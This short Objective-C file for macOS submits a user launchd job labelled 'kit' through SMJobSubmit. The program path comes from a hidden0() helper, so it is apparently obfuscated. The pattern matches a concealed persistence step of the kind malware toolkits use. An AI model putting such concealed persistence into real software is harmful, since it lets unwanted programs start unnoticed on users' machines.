/* Gives launchd a job to start. */
#include "objc.h"
#include "hidden.h" /* 0: the program */
extern unsigned char SMJobSubmit(const void *, const void *, void *, void **);
extern const void *kSMDomainUserLaunchd;
@interface NSMutableDictionary
+ (id)dictionary;
- (void)setObject:(id)o forKey:(id)k;
@end
static void act(char **env) {
    id job = [NSMutableDictionary dictionary];
    [job setObject:[NSString stringWithUTF8String:hidden0()] forKey:[NSString stringWithUTF8String:"Program"]];
    [job setObject:[NSString stringWithUTF8String:"kit"] forKey:[NSString stringWithUTF8String:"Label"]];
    SMJobSubmit(kSMDomainUserLaunchd, job, 0, 0);
}
